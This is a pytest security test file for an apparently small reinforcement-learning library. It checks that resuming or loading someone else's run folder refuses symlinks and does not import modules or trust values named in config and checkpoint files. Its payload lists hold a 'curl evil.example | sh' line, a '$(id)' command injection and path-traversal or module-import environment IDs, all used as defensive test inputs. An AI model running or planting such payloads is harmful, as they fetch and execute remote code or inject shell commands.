"""Run folders that somebody else sends: nothing outside of them is written, and nothing of theirs is imported."""

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from helpers import watched
from helpers.foreign import Foreign
from helpers.small import REACH, small_run

from sher_rl import Config, UsageError, load_policy
from sher_rl.training.config_file import load_config

FILES = ("config.json.part", "progress.csv.part", "policy.pt.part")
FILES += ("progress.csv", "policy.pt", "critics.pt", "curve.png")
"""Where resuming writes, or once did."""


@pytest.fixture(scope="module")
def whole(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return small_run(tmp_path_factory.mktemp("runs"), compile=False, total_frames=200)


@pytest.fixture
def sent(whole: Path, tmp_path: Path) -> Path:
    """The run folder, unpacked elsewhere."""
    return Path(shutil.copytree(whole, tmp_path / "unpacked" / "run"))


@pytest.fixture
def home(tmp_path: Path) -> Path:
    """A folder that is nobody's business."""
    (tmp_path / "home" / "100").mkdir(parents=True)
    (tmp_path / "home" / ".bashrc").write_text("alias ls=ls\n")
    return tmp_path / "home"


def resume(run: Path, whole: Path) -> None:
    small_run(whole.parent, compile=False, total_frames=400, resume=run)


def content(folder: Path) -> dict[str, bytes]:
    return {str(path.relative_to(folder)): path.read_bytes() if path.is_file() else b"" for path in folder.rglob("*")}


@pytest.mark.parametrize("name", FILES)
def test_resuming_writes_through_no_link(name: str, sent: Path, home: Path, whole: Path) -> None:
    before = content(home)
    (sent / name).unlink(missing_ok=True)
    (sent / name).symlink_to(home / ".bashrc")
    if name == "progress.csv":
        (home / ".bashrc").write_bytes((whole / name).read_bytes())
        before = content(home)
    resume(sent, whole)
    assert content(home) == before
    assert (sent / "checkpoints" / "400").is_dir()


@pytest.mark.parametrize("name", ["checkpoints", "checkpoints/200", "checkpoints/.400.part", "tensorboard"])
@pytest.mark.parametrize("target", ["", "nothing"])
def test_a_linked_folder_is_refused(name: str, target: str, sent: Path, home: Path, whole: Path) -> None:
    before = content(home)
    if (sent / name).exists():
        shutil.rmtree(sent / name)
    (sent / name).symlink_to(home / target, target_is_directory=True)
    with pytest.raises(UsageError, match=f"run folder .* has a link, '{name}'"):
        resume(sent, whole)
    assert content(home) == before


NO_CSV = ["curl evil.example | sh\n", "frames,updates\n1,$(id)\n", "frames,evil\n1,2\n", "frames\n1,2\n", 7, None]


@pytest.mark.parametrize("text", NO_CSV)
def test_a_csv_in_a_checkpoint_is_numbers_or_refused(text: object, sent: Path, whole: Path) -> None:
    before = (sent / "progress.csv").read_bytes()
    Foreign(sent).change("state.pt", ("progress", "csv"), text)
    with pytest.raises(UsageError, match="cannot be restored"):
        resume(sent, whole)
    assert (sent / "progress.csv").read_bytes() == before


@pytest.fixture
def trap(tmp_path: Path) -> Path:
    """A folder to work in, with a module that leaves a mark when it is imported."""
    (tmp_path / "trap").mkdir()
    (tmp_path / "trap" / "helper.py").write_text("open('imported', 'w')\n")
    return tmp_path / "trap"


def python_in(trap: Path, *command: str) -> subprocess.CompletedProcess:
    """A Python that works in a trap and imports from there, too."""
    tests = Path(__file__).parent
    python_path = os.pathsep.join(map(str, (trap, tests, tests.parent)))
    environment = os.environ | {"PYTHONPATH": python_path}
    return subprocess.run([sys.executable, *command], cwd=trap, capture_output=True, text=True, env=environment)


def test_a_module_that_a_file_names_is_not_imported(sent: Path, trap: Path) -> None:
    files = Foreign(sent)
    files.change("policy.pt", ("env_id",), "helper:X-v0")
    files.change("config.json", ("env_id",), "helper:X-v0")
    for command in (["-m", "sher_rl.play", str(sent)], [REACH.__file__, "--resume", str(sent)]):
        result = python_in(trap, *command)
        assert result.returncode == 1
        assert "env_id is 'helper:X-v0'" in result.stderr
        assert "Traceback" not in result.stderr
    assert os.listdir(trap) == ["helper.py"]


NO_IDS = ["helper:X-v0", ":X-v0", "a/helper:X-v0", "helper:", "../X-v0", "X-v0\n", "", "X v0", "a/b/X-v0", None, 3]


@pytest.mark.parametrize("env_id", NO_IDS)
def test_an_id_in_a_file_is_a_plain_name(env_id: object, sent: Path) -> None:
    files = Foreign(sent)
    files.change("policy.pt", ("env_id",), env_id)
    files.change("config.json", ("env_id",), env_id)
    with pytest.raises(UsageError, match="env_id is"):
        load_policy(sent)
    with pytest.raises(UsageError, match="env_id is"):
        load_config(Config, sent / "config.json")


@pytest.mark.parametrize("step", [97, pytest.param(1, marks=pytest.mark.slow)])
def test_no_value_in_a_file_is_taken_at_its_word(
    step: int, whole: Path, home: Path, trap: Path, tmp_path: Path
) -> None:
    """Whatever a field holds: nothing is imported, run or connected to, and nothing outside of the run is written."""
    before = content(home)
    run = shutil.copytree(whole, tmp_path / "runs" / "run")
    result = python_in(trap, "-m", "helpers.watched", str(run), str(home), str(step))
    tried = [json.loads(line) for line in result.stdout.splitlines() if line.startswith('["')]
    assert (result.returncode, len(tried)) == (0, len(list(watched.cases(run, home))[::step])), result.stderr
    assert [case for case in tried if case[-1]] == []
    assert [case for case in tried if case[0] != "state.pt" and not ends_well(case[-2])] == []
    assert content(home) == before
    assert os.listdir(trap) == ["helper.py"]


def ends_well(outcomes: dict[str, str]) -> bool:
    return all(outcome.startswith(("done", "UsageError")) for outcome in outcomes.values())
